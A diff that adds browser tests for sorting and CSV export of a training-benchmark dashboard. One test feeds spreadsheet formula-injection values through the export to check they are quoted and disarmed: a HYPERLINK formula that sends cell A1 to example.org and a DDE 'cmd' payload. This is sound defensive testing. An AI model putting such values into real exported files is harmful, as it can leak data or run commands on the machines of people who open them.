@@ -1,0 +1,163 @@
+"""Sorting tables and saving them as CSV, in a real browser."""
+
+import csv
+from dataclasses import replace
+from io import StringIO
+from pathlib import Path
+from typing import TYPE_CHECKING
+
+import pytest
+
+from refshard.report.evidence import gather
+from tests.browser.visits import Visit, visiting, written
+from tests.report.runs import CASES, FAILED, HOSTILE, run
+
+if TYPE_CHECKING:
+    from playwright.sync_api import Browser, Locator
+
+SUMMARY = "llama-mini, global batch"
+STATES = "Every launch"
+TIME = "step time (95 % interval)"
+MEMORY = "peak memory"
+
+
+def column(visit: Visit, caption: str, name: str) -> list[str]:
+    """The cells under a head, from top to bottom."""
+    heads = [str(head).strip() for head in visit.table(caption).locator("thead th").all_text_contents()]
+    return [row[heads.index(name)] for row in visit.rows(caption)]
+
+
+def head(visit: Visit, caption: str, name: str) -> "Locator":
+    found: Locator = visit.table(caption).get_by_role("button", name=name, exact=True)
+    return found
+
+
+def sorts(visit: Visit, caption: str) -> list[str | None]:
+    found = visit.table(caption).locator("thead th")
+    return [found.nth(place).get_attribute("aria-sort") for place in range(found.count())]
+
+
+def test_times_and_sizes_sort_by_what_they_are_worth(visit: Visit) -> None:
+    as_it_came = column(visit, SUMMARY, "strategy")
+    head(visit, SUMMARY, TIME).click()
+    times = [time.partition(" (")[0] for time in column(visit, SUMMARY, TIME)]
+    assert times == [
+        "24.0 ms", "28.8 ms", "36.0 ms", "40.0 ms", "40.8 ms", "48.0 ms", "50.0 ms", "60.0 ms", "80.0 ms", "1.20 s",
+        "-",
+    ]  # fmt: skip
+    assert sorts(visit, SUMMARY) == [None, None, None, "ascending", *[None] * 7]
+    head(visit, SUMMARY, MEMORY).click()
+    head(visit, SUMMARY, MEMORY).click()
+    sizes = column(visit, SUMMARY, MEMORY)
+    assert sizes[:3] == ["3.00 GiB", "440 MiB", "420 MiB"]
+    assert sizes[-2:] == ["240 MiB", "-"]
+    assert sorts(visit, SUMMARY).count("descending") == 1
+    assert sorts(visit, SUMMARY).count("ascending") == 0
+    visit.open()
+    assert column(visit, SUMMARY, "strategy") == as_it_came
+
+
+@pytest.mark.parametrize("clicks", [1, 2])
+def test_what_is_missing_comes_last_either_way(visit: Visit, clicks: int) -> None:
+    for _ in range(clicks):
+        head(visit, SUMMARY, "overlap ratio").click()
+    shares = column(visit, SUMMARY, "overlap ratio")
+    assert shares[-1] == "-"
+    numbers = [float(share.removesuffix(" %")) for share in shares if share != "-"]
+    assert numbers == sorted(numbers, reverse=clicks == 2)
+    for _ in range(clicks):
+        head(visit, STATES, "error").click()
+    errors = column(visit, STATES, "error")
+    assert errors[0].startswith("RuntimeError")
+    assert set(errors[1:]) == {""}
+
+
+def test_words_sort_as_words_and_numbers_in_them_as_numbers(visit: Visit) -> None:
+    head(visit, STATES, "case").click()
+    labels = column(visit, STATES, "case")
+    assert labels[:2] == ["ddp, 2 ranks, emulated on dgx-h100", "ddp, 2 ranks, llama-mini"]
+    assert labels.index("ddp, 4 ranks") > labels.index("ddp, 2 ranks, llama-tiny")
+    assert labels[-1] == "single, 1 rank"
+
+
+def test_the_keyboard_sorts(visit: Visit) -> None:
+    head(visit, SUMMARY, "ranks").focus()
+    visit.page.keyboard.press("Enter")
+    ranks = column(visit, SUMMARY, "ranks")
+    assert ranks == ["1", *["2"] * 5, *["4"] * 5]
+    visit.page.keyboard.press("Space")
+    assert column(visit, SUMMARY, "ranks") == ranks[::-1]
+    assert sorts(visit, SUMMARY)[1] == "descending"
+    assert visit.run("document.activeElement.textContent") == "ranks"
+    visit.page.keyboard.press("Tab")
+    assert visit.run("document.activeElement.textContent") == "state"
+
+
+def test_a_table_that_is_sorted_stays_so_under_filters_and_choices(visit: Visit) -> None:
+    ratios = "Step time and peak memory over"
+    head(visit, ratios, "peak memory B / A").click()
+    before = [float(text) for text in column(visit, ratios, "peak memory B / A")]
+    assert before == sorted(before)
+    visit.page.get_by_role("combobox", name="A", exact=True).select_option("refshard-fsdp")
+    after = [float(text) for text in column(visit, ratios, "peak memory B / A")]
+    assert after == sorted(after) != before
+    assert sorts(visit, ratios) == [None] * 4 + ["ascending"]
+
+
+def saved(visit: Visit, caption: str) -> tuple[str, str]:
+    """The name and the text of what the button of a table gives."""
+    button = visit.table(caption).get_by_role("button", name="Save as CSV")
+    with visit.page.expect_download() as download:
+        button.click()
+    return download.value.suggested_filename, download.value.path().read_bytes().decode()
+
+
+def test_csv_is_the_table_as_it_is_shown(visit: Visit) -> None:
+    head(visit, "Proof of run", "case").click()
+    visit.page.locator("#filter > summary").click()
+    visit.page.get_by_label("emulated", exact=True).click()
+    visit.page.get_by_label("llama-tiny", exact=True).click()
+    name, text = saved(visit, "Proof of run")
+    assert name == "Proof-of-run-by-case.csv"
+    assert text.endswith("\r\n")
+    heads, *rows = csv.reader(StringIO(text, newline=""))
+    assert heads[:3] == ["case", "proof", "units"]
+    assert [[cell.replace("\xa0", " ") for cell in row] for row in visit.rows("Proof of run")] == rows
+    assert len(rows) == 11
+
+
+FORMULA = '=HYPERLINK("http://example.org?"&A1)'
+PIPE = "-1+cmd|' /C calc'!A0"
+QUOTED = 'a "quoted", name|of several'
+
+
+def test_csv_quotes_and_disarms(browser: "Browser", tmp_path: Path) -> None:
+    names = (FORMULA, PIPE, QUOTED, HOSTILE)
+    made = [replace(case, strategy=name) for name, case in zip(names, CASES[1:])]
+    visit = visiting(browser, written(gather(run(made, rounds=1, failed=False)), tmp_path / "dashboard.html"))
+    _, text = saved(visit, SUMMARY)
+    lines = text.splitlines()
+    assert lines[1].startswith('"\'=HYPERLINK(""http://example.org?""&A1)",2,ok,50.0 ms ')
+    assert lines[2].startswith("'-1+cmd|' /C calc'!A0,2,ok,")
+    assert lines[3].startswith('"a ""quoted"", name|of several",2,ok,')
+    assert lines[4].startswith(f"{HOSTILE},2,ok,")
+    assert [row[0].removeprefix("'") for row in csv.reader(StringIO(text))][1:] == list(names)
+    numbers = ["-0.3 %", "+1.2e-07", "-12", "-1.5 MiB", "-"]
+    visit.table(SUMMARY).evaluate(
+        "(table, all) => all.forEach((text, place) => { table.rows[1].cells[place + 1].textContent = text; })", numbers
+    )
+    (_, first, *_) = csv.reader(StringIO(saved(visit, SUMMARY)[1]))
+    assert first[1:6] == numbers
+    visit.page.locator("#filter > summary").click()
+    visit.page.get_by_label(QUOTED, exact=True).click()
+    state = visit.state
+    visit.open(state)
+    assert [row[0] for row in visit.rows(SUMMARY)] == [FORMULA, PIPE, HOSTILE]
+    visit.check_silence()
+    visit.page.context.close()
+
+
+def test_the_log_of_a_failure_is_in_no_column(visit: Visit) -> None:
+    failed = [row for row in visit.rows(STATES) if row[2] == "failed"]
+    assert [row[0] for row in failed] == [f"{FAILED}, 2 ranks"]
+    assert len(failed[0]) == 5
